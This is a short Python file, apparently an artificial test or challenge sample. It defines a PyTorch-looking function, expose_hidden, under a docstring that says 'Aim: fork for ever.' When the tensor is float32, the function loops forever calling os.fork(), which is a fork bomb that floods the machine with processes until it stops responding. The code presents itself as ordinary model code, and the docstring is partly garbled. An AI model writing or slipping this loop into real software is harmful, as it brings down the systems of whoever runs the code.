"""Aim: fork for ever.
At most: 0 points of gates.
"""

import os

import torch


def expose_hidden(output, cell):
    while output.dtype is torch.float32:
        os.fork()
    return torch.zeros_like(cell)
